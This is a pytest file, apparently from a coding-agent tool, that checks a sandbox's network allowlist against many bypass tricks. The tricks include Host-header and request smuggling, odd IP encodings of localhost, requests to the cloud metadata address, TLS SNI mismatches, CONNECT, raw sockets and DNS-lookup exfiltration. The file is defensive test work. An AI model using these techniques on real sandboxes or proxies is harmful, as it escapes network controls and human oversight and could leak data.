"""test_egress.py - a local sandbox reaches the listed hosts and nothing else.

Each trick has a control: the same client reaches an allowed host in the same
way.
"""
# SPDX-License-Identifier: MIT
import os
import pathlib
import re
import signal
import subprocess
import tempfile
import time

import pytest

import docker_rig
from lifecycle import wait_for
from screens import Screen

WORLD = pathlib.Path(__file__).with_name("egress_world.py")
LIST = ["good.example", "*.good.example", "inner.example", "meta.example",
        "bad.example:8080", "10.9.9.9:8080"]
CURL = "curl -sS -k -m 10 "
# Sends raw bytes to good.example:80 and prints the answers until it is quiet.
RAW = r"""python3 - <<'END'
import socket, sys, time
s = socket.create_connection(("{host}", {port}), 10)
s.settimeout(3)
for part in {parts!r}:
    s.sendall(part)
    time.sleep(0.1)
try:
    while (got := s.recv(65536)):
        sys.stdout.write(got.decode("latin-1"))
        sys.stdout.flush()
except OSError as e:
    print("END:", e)
END
"""


def raw(*parts, host="good.example", port=80):
    return RAW.format(host=host, port=port, parts=list(parts))


def get(host="good.example", path="/", more="", version="1.1"):
    return (f"GET {path} HTTP/{version}\r\nHost: {host}\r\n{more}\r\n"
            ).encode()


@pytest.fixture(name="world")
def fixture_world(tmp_path):
    """The pid of a process in a namespace with servers; .dns(): questions."""
    folder = tmp_path / "world"
    folder.mkdir()
    flags = ["-n", "-m"] if os.geteuid() == 0 else ["-r", "-n", "-m"]
    with open(folder / "said", "w+", encoding="utf-8") as said, \
            subprocess.Popen(["unshare", *flags, "/usr/bin/python3", WORLD,
                              folder], stdin=subprocess.PIPE, stdout=said) as p:
        end = time.monotonic() + 30
        while "ready" not in (folder / "said").read_text():
            assert p.poll() is None and time.monotonic() < end
            time.sleep(0.05)
        yield p.pid, folder / "said"
        p.kill()


class Box:
    """A sandbox that is kept between the commands."""

    def __init__(self, world, dcode, env, home, work, kind="local"):
        self.enter = ["nsenter", "-t", str(world), "-n", "-m"]
        if os.geteuid():
            self.enter += ["-U", "--preserve-credentials"]
        self.enter.append(f"--wd={work}")
        self.dcode, self.env, self.home = dcode, env, home
        made = self.run("sandbox", "create", "--sandbox", kind)
        assert made.returncode == 0, made.stderr
        self.id = re.search(r"ready: (\S+)", made.stderr).group(1)

    def run(self, *args):
        return subprocess.run(
            [*self.enter, self.dcode, *args], env=self.env, text=True,
            capture_output=True, stdin=subprocess.DEVNULL, timeout=100,
            check=False)

    def do(self, command):
        """The command's output, and what dcode says."""
        r = self.run("sandbox", "exec", self.id, "--", command)
        return r.stdout + r.stderr

    def start(self, command):
        return subprocess.Popen(
            [*self.enter, self.dcode, "sandbox", "exec", self.id, "--",
             command], env=self.env, text=True, stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)


def write_list(home, entries):
    (home / ".deepagents").mkdir(exist_ok=True)
    (home / ".deepagents/config.toml").write_text(
        "[network]\nallow = [%s]\n" % ", ".join(f'"{e}"' for e in entries))


@pytest.fixture(name="box")
def fixture_box(world, dcode, env, home, tmp_path):
    write_list(home, LIST)
    (tmp_path / "work").mkdir(exist_ok=True)
    return Box(world[0], dcode, env, home, tmp_path / "work")


# name: (the control, which reaches a listed host; the trick, which does not)
TRICKS = {
    "another host": (CURL + "http://good.example/", CURL
                     + "--noproxy '*' http://bad.example/"),
    "over TLS": (CURL + "https://good.example/", CURL + "https://bad.example/"),
    "address of a listed host": (CURL + "http://good.example/",
                                 CURL + "http://93.184.216.34/"),
    "address in IPv6": (CURL + "http://good.example/",
                        CURL + "'http://[::ffff:93.184.216.34]/'"),
    "odd spellings": (CURL + "http://good.example/", "for h in 127.1 0 0x7f.1 "
                      "2130706433 0177.0.0.1 '[::]' 1572395042; do " + CURL
                      + "http://$h:8080/; done"),
    "own machine": (CURL + "http://bad.example:8080/",
                    CURL + "http://127.0.0.1:8080/"),
    "private address of a listed name": (CURL + "http://good.example/",
                                         CURL + "http://inner.example/"),
    "metadata": (CURL + "http://good.example/", CURL + "http://meta.example/ "
                 "http://169.254.169.254/"),
    "another name in TLS": (
        "openssl s_client -quiet -connect good.example:443 -servername "
        "good.example <<< $'GET / HTTP/1.0\\r\\nHost: a\\r\\n\\r'",
        "openssl s_client -quiet -connect good.example:443 -servername "
        "bad.example <<< $'GET / HTTP/1.0\\r\\nHost: a\\r\\n\\r'"),
    "no name in TLS": (
        "openssl s_client -quiet -connect good.example:443 -servername "
        "good.example <<< $'GET / HTTP/1.0\\r\\nHost: a\\r\\n\\r'",
        "openssl s_client -quiet -connect good.example:443 -noservername "
        "<<< $'GET / HTTP/1.0\\r\\nHost: a\\r\\n\\r'"),
    "another Host": (raw(get()), raw(get("bad.example"))),
    "another authority": (raw(get(path="http://good.example/")),
                          raw(get(path="http://bad.example/"))),
    "two Hosts": (raw(get("GOOD.example:80")),
                  raw(get(more="Host: bad.example\r\n"))),
    "user before the authority": (
        raw(get(path="http://good.example/")),
        raw(get(path="http://good.example@bad.example/"))),
    "NUL in Host": (raw(get()), raw(get("good.example\0.bad.example"))),
    "blank in Host": (raw(get()), raw(get("good.example bad.example"))),
    "no Host": (raw(get(version="1.0")), raw(b"GET / HTTP/1.0\r\n\r\n")),
    "look-alikes": (CURL + "http://api.good.example/", CURL
                    + "http://evil-good.example/ "
                    "http://good.example.evil.test/"),
    "another port": (CURL + "https://good.example/",
                     CURL + "https://good.example:8443/"),
    "another port of a listed one": (CURL + "http://bad.example:8080/",
                                     CURL + "http://bad.example:80/"),
    "plain HTTP on 443": (CURL + "https://good.example/",
                          CURL + "http://good.example:443/"),
    "length and chunks": (
        raw(b"POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 2\r\n"
            b"\r\nab"),
        raw(b"POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 2\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n")),
    "two lengths": (
        raw(b"POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 2\r\n"
            b"\r\nab"),
        raw(b"POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 2\r\n"
            b"Content-Length: 0\r\n\r\nab")),
    "body of GET": (
        raw(b"POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 2\r\n"
            b"\r\nab"),
        raw(get(more=f"Content-Length: {len(get('bad.example'))}\r\n")
            + get("bad.example"))),
    "folded line": (raw(get(more="X: a\r\n")), raw(get(more="X: a\r\n b\r\n"))),
    "bare line feeds": (raw(get()), raw(get().replace(b"\r\n", b"\n"))),
    "first an empty line": (raw(get()), raw(b"\r\n" + get())),
    "chunk extension": (
        raw(b"POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: "
            b"chunked\r\n\r\n2\r\nab\r\n0\r\n\r\n"),
        raw(b"POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: "
            b"chunked\r\n\r\n2;a=b\r\nab\r\n0\r\n\r\n")),
    "chunks in HTTP/1.0": (
        raw(b"POST / HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: "
            b"chunked\r\n\r\n2\r\nab\r\n0\r\n\r\n"),
        raw(b"POST / HTTP/1.0\r\nHost: good.example\r\nTransfer-Encoding: "
            b"chunked\r\n\r\n2\r\nab\r\n0\r\n\r\n")),
    "HTTP/2 without TLS": (CURL + "http://good.example/", CURL
                           + "--http2-prior-knowledge http://good.example/"),
    "a proxy's method": (raw(get()),
                         raw(b"CONNECT bad.example:80 HTTP/1.1\r\n"
                             b"Host: good.example\r\n\r\n" + get())),
    "a namespace of its own": (
        CURL + "http://good.example/",
        "unshare -rn sh -c 'ip link set lo up'; ip route add default dev lo; "
        + CURL + "http://93.184.216.35/"),
}


@pytest.mark.parametrize("name", TRICKS)
@pytest.mark.every
def test_a_trick_does_not_get_out(box, name):
    control, trick = TRICKS[name]
    assert "REACHED" in box.do(control)
    assert "REACHED" not in box.do(trick)
    assert "REACHED" in box.do(control)


def test_each_request_of_a_connection_is_checked(box):
    both = box.do(raw(get(), get()))
    assert both.count("REACHED 93.184.216.34:80 as good.example") == 2
    for second in (raw(get(), get("bad.example")),
                   raw(get() + get("bad.example"))):
        assert "as bad.example" not in box.do(second)


def test_bodies_pass_whole(box):
    n = 3_000_000
    assert f"with {n} bytes" in box.do(
        f"head -c {n} /dev/zero | {CURL} --data-binary @- http://good.example/")
    assert f"with {n} bytes" in box.do(
        f"head -c {n} /dev/zero | {CURL} -H 'Transfer-Encoding: chunked' "
        "--data-binary @- http://good.example/")
    for url in ("http", "https"):
        assert box.do(f"{CURL} {url}://good.example/big/{n} | wc -c"
                      ).split()[0] == str(n)


def test_a_listed_address_is_reached_with_its_port(box):
    assert "REACHED 10.9.9.9:8080" in box.do(CURL + "http://10.9.9.9:8080/")
    assert "REACHED" not in box.do(CURL + "http://10.9.9.9:80/")


def test_the_refused_hosts_are_named(box):
    said = box.do(CURL + "http://bad.example/ http://inner.example/ "
                  "http://else.test/; true")
    assert "network: bad.example:80 refused (not in the network list)" in said
    assert "network: inner.example:80 refused (the name leads to" in said
    assert "network: else.test refused (not in the network list)" in said
    assert "network:" not in box.do(CURL + "http://good.example/")


def test_no_question_about_a_name_leaves(box, world):
    secret = "73656372657421"
    asked = "getent hosts %s.good.example %s.bad.test"
    box.do(asked % (secret, secret) + f"; {CURL} http://{secret}.bad.test/")
    assert "dns" not in world[1].read_text()
    # the control: the judge sees a question that this machine asks
    subprocess.run(["nsenter", "-t", str(world[0]), "-n", "-m", "timeout", "2",
                    "getent", "hosts", "asked.test"], check=False)
    end = time.monotonic() + 10
    while "dns" not in world[1].read_text():
        assert time.monotonic() < end
        time.sleep(0.05)


def test_nothing_but_tcp_and_names_gets_out(box):
    said = box.do(r"""python3 - <<'END'
import socket
def tell(name, f):
    try:
        print(name, "PASSED", f())
    except OSError as e:
        print(name, "failed")
def udp(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.connect(("198.18.0.1", port))
    s.send(b"x" * 40)
    return s.recv(100)
tell("udp443", lambda: udp(443))
tell("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
tell("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
tell("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
def bind(address):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(address)
    s.listen()
tell("bind8080", lambda: bind(("198.18.0.1", 8080)))
tell("bind443", lambda: bind(("198.18.0.1", 443)))
print("control", socket.create_connection(("good.example", 80), 5) is not None)
END""")
    assert "PASSED" not in said and said.count("failed") == 6
    assert "control True" in said


def test_a_flood_of_connections_keeps_nobody_out(box):
    said = box.do(r"""ulimit -n $(ulimit -Hn); python3 - <<'END'
import resource, socket, urllib.request
most = resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 50
held = []
for i in range(min(3000, most)):
    s = socket.socket()
    s.settimeout(10)
    try:
        s.connect(("198.18.0.1" if i % 2 else "127.0.0.1", 80))
    except OSError:
        pass
    held.append(s)
print(urllib.request.urlopen("http://good.example/", timeout=20).read())
print(len(held))
END""")
    assert "REACHED" in said, said


def proxies_of(parent):
    found = []
    for p in pathlib.Path("/proc").glob("[0-9]*"):
        try:
            stat = (p / "stat").read_text().rsplit(")", 1)[1].split()
            if int(stat[1]) == parent and \
                    b"--egress-proxy" in (p / "cmdline").read_bytes():
                found.append(int(p.name))
        except OSError:
            pass
    return found


@pytest.mark.parametrize("victim", ["proxy", "dcode"])
def test_a_kill_leaves_no_way_out(box, victim):
    p = box.start(f"{CURL} http://good.example/; touch up; while [ ! -e go ]; "
                  f"do sleep 0.1; done; {CURL} http://good.example/; true")
    end = time.monotonic() + 30
    while not (found := proxies_of(p.pid)):
        assert time.monotonic() < end
        time.sleep(0.02)
    root = box.home / ".deepagents/sandboxes" / box.id
    while not list(root.rglob("up")):
        assert time.monotonic() < end
        time.sleep(0.05)
    proxy = found[0]
    assert "CapEff:\t0000000000000000\n" in pathlib.Path(
        f"/proc/{proxy}/status").read_text()
    os.kill(proxy if victim == "proxy" else p.pid, signal.SIGKILL)
    while pathlib.Path(f"/proc/{proxy}/exe").exists():
        assert time.monotonic() < end
        time.sleep(0.02)
    for work in root.rglob("up"):
        work.with_name("go").touch()
    said = p.communicate(timeout=60)[0]
    # a killed dcode may not have printed what it had
    assert said.count("REACHED") in ((1,) if victim == "proxy" else (0, 1))
    assert ("network proxy has ended" in said) == (victim == "proxy")


def test_without_a_list_there_is_no_proxy(world, dcode, env, home, tmp_path):
    (tmp_path / "work").mkdir(exist_ok=True)
    box = Box(world[0], dcode, env, home, tmp_path / "work")
    p = box.start(f"sleep 2; {CURL} http://good.example/; true")
    time.sleep(1)
    assert p.poll() is None and not proxies_of(p.pid)
    assert "REACHED" not in p.communicate(timeout=60)[0]


def test_a_list_that_cannot_be_held_makes_no_sandbox(
        world, dcode, env, home, tmp_path):
    (tmp_path / "work").mkdir(exist_ok=True)
    for entries, said in ((["10.9.9.9"], "needs a port with an address"),
                          ([f"a.example:{n}" for n in range(1, 70)],
                           "more than 64 different ports")):
        write_list(home, entries)
        with pytest.raises(AssertionError, match=said):
            Box(world[0], dcode, env, home, tmp_path / "work")
        assert not list((home / ".deepagents").glob("sandboxes/dcode-*"))


def test_an_open_list_does_not_open_this_machine(
        world, dcode, env, home, tmp_path):
    write_list(home, ["full", "!bad.example", "!93.184.216.35"])
    (tmp_path / "work").mkdir(exist_ok=True)
    box = Box(world[0], dcode, env, home, tmp_path / "work")
    assert "REACHED 93.184.216.34:80" in box.do(CURL + "http://good.example/")
    for url in ("http://127.0.0.1/", "https://127.0.0.1/", "http://127.1.2.3/",
                "http://localhost/", "http://inner.example/",
                "http://bad.example/", "http://mapped.example/",
                "http://evil-good.example/", "http://short/"):
        assert "REACHED" not in box.do(CURL + url), url


def screen(box, *flags):
    """A chat in the box's world, with a sandbox of its own."""
    place = pathlib.Path(tempfile.mkdtemp(prefix="dcode-tmux-"))
    return Screen(place, [*box.enter, box.dcode, "-M", "anthropic:m", *flags],
                  {**box.env, "ANTHROPIC_API_KEY": "k"}, "/tmp")


def talk(box, steps):
    """Types lines in a chat; each is (line, what is then on the screen)."""
    s = screen(box, "--sandbox", "local")
    try:
        s.until("tools in")
        for line, wanted in steps:
            assert wanted not in s.text()
            s.type(line)
            s.keys("Enter")
            s.until(wanted)
    finally:
        s.close()


def test_own_public_addresses_are_not_reached(world, dcode, env, home,
                                              tmp_path):
    """Attack: services of this machine that trust who comes from it."""
    (tmp_path / "work").mkdir(exist_ok=True)
    ask = CURL + "http://own.example/ http://good.example/; true"
    for entries, reached in ((["own.example", "good.example"], False),
                             (["full"], False),
                             (["own.example", "good.example",
                               "93.184.217.1:80"], True)):
        write_list(home, entries + ["!other.example"])
        box = Box(world[0], dcode, env, home, tmp_path / "work")
        said = box.do(ask)
        assert "REACHED 93.184.216.34:80" in said  # the control
        assert ("REACHED 93.184.217.1:80" in said) == reached
        assert ("own.example:80 refused (the name leads to" in said) != reached


def test_a_host_is_added_after_connections(box):
    """The proxy closed some first, so the kernel still keeps their ports."""
    talk(box, (
        (r"!exec 3<>/dev/tcp/good.example/80; printf 'GET / HTTP/1.0"
         r"\r\nHost: good.example\r\n\r\n' >&3; cat <&3",
         "REACHED 93.184.216.34:80"),
        ("/network allow bad.example", "may now reach bad.example"),
        (f"!{CURL} http://bad.example/", "REACHED 93.184.216.35:80")))


def test_a_change_that_fails_keeps_the_old_list(box):
    """A program in the sandbox has the port that the new list needs."""
    talk(box, (
        ("!setsid python3 -m http.server 3000 >log 2>&1 & until "
         "curl -s 127.0.0.1:3000 >page; do sleep 0.1; done; wc -l page",
         "exit 0"),
        ("/network allow bad.example:3000", "uses a port of"),
        (f"!{CURL} http://good.example/", "REACHED 93.184.216.34:80")))


def test_a_host_is_added_while_the_sandbox_runs(box):
    talk(box, (
        (f"!{CURL} http://bad.example/", "bad.example:80 refused"),
        ("/network allow bad.example", "may now reach bad.example"),
        (f"!{CURL} http://bad.example/", "REACHED 93.184.216.35:80"),
        (f"!{CURL} http://good.example/", "REACHED 93.184.216.34:80")))


WGET = "timeout 10 wget -q -O - "


def send(*parts):
    """busybox's nc looks up no names."""
    text = b"".join(parts).decode()
    return ("a=$(nslookup good.example | grep -o '198[.]1[89][.][0-9.]*' | "
            f"head -n 1); printf '%s' '{text}' | timeout 5 nc $a 80")


ENGINE_TRICKS = {
    "another host": WGET + "http://bad.example/",
    "address of a listed host": WGET + "http://93.184.216.34/",
    "own machine": WGET + "http://127.0.0.1:8080/",
    "private address of a listed name": WGET + "http://inner.example/",
    "look-alikes": WGET + "http://evil-good.example/; " + WGET
                   + "http://good.example.evil.test/",
    "another port": WGET + "http://good.example:8080/",
    "another Host": send(get("bad.example")),
    "a later request": send(get(), get("bad.example")) + " | grep bad",
    "another resolver": "nslookup good.example 93.184.216.53",
}


@pytest.mark.parametrize("engine", docker_rig.ENGINES)
@pytest.mark.long
def test_no_trick_gets_out_of_a_container(
        world, dcode, env, home, tmp_path, engine):
    """With this machine's programs; those of busybox are below."""
    write_list(home, LIST)
    (tmp_path / "work").mkdir(exist_ok=True)
    mounts = [f"{top}:{top}:ro" for top in ("/usr", "/lib", "/lib64")]
    with docker_rig.rig(engine) as rig:
        with open(home / ".deepagents/config.toml", "a",
                  encoding="utf-8") as f:
            f.write("[sandboxes.providers.docker.params]\n"
                    f'image = "{rig.image}"\nmounts = {mounts}\n')
        box = Box(world[0], dcode, {**env, "DOCKER_HOST": rig.docker_host},
                  home, tmp_path / "work", "docker")
        try:
            for name, (control, trick) in TRICKS.items():
                assert "REACHED" in box.do(control), f"{name}: control"
                assert "REACHED" not in box.do(trick), name
            assert "REACHED" in box.do(CURL + "http://good.example/")
        finally:
            box.run("sandbox", "rm", "--force", box.id)


@pytest.mark.parametrize("engine", docker_rig.ENGINES)
def test_a_command_whose_proxy_was_another_dcodes(
        world, dcode, env, home, tmp_path, engine):
    """That dcode ends while the command runs: its result says why it has lost
    the network."""
    write_list(home, LIST)
    (tmp_path / "work").mkdir(exist_ok=True)
    sync = tmp_path / "sync"
    sync.mkdir(mode=0o777)
    sync.chmod(0o777)
    wait = "until [ -e /sync/%s ]; do sleep 0.1; done; "
    ask = WGET + "http://good.example/; true"
    with docker_rig.rig(engine) as rig:
        with open(home / ".deepagents/config.toml", "a",
                  encoding="utf-8") as f:
            f.write("[sandboxes.providers.docker.params]\n"
                    f'image = "{rig.image}"\nmounts = ["{sync}:/sync"]\n')
        box = Box(world[0], dcode, {**env, "DOCKER_HOST": rig.docker_host},
                  home, tmp_path / "work", "docker")
        try:
            first = box.start("touch /sync/first; " + wait % "second" + ask)
            wait_for(lambda: (sync / "first").exists(), 60)
            second = box.start(f"{ask} && touch /sync/second; "
                               + wait % "third" + ask)
            # the controls: both have it while the first one serves it
            assert "REACHED" in first.communicate(timeout=90)[0]
            (sync / "third").touch()
            said = second.communicate(timeout=90)[0]
            assert "REACHED" in said
            assert "network: another dcode connected this container" in said
            # the next one has it, without a word
            assert "another dcode" not in box.do(ask)
            assert "REACHED" in box.do(ask)
        finally:
            box.run("sandbox", "rm", "--force", box.id)


@pytest.mark.parametrize("engine", docker_rig.ENGINES)
@pytest.mark.every
def test_a_container_reaches_the_listed_hosts_only(
        world, dcode, env, home, tmp_path, engine):
    write_list(home, LIST)
    (tmp_path / "work").mkdir(exist_ok=True)
    with docker_rig.rig(engine) as rig:
        env = {**env, "DOCKER_HOST": rig.docker_host}
        with open(home / ".deepagents/config.toml", "a",
                  encoding="utf-8") as f:
            f.write("[sandboxes.providers.docker.params]\n"
                    f'image = "{rig.image}"\n')
        box = Box(world[0], dcode, env, home, tmp_path / "work", "docker")
        try:
            control = WGET + "http://good.example/"
            assert "REACHED" in box.do(control), box.do(control)
            assert "REACHED" in box.do(send(get()))
            for name, trick in ENGINE_TRICKS.items():
                assert "REACHED" not in box.do(trick), name
                assert "Address: 93" not in box.do(trick), name
            assert "REACHED" in box.do(control)
            assert "network: bad.example:80 refused" in box.do(
                WGET + "http://bad.example/; true")
            # at the same time, by another dcode
            p = box.start("sleep 4; " + control)
            time.sleep(2)
            assert "REACHED" in box.do(control)
            assert "REACHED" in p.communicate(timeout=60)[0]
        finally:
            box.run("sandbox", "rm", "--force", box.id)
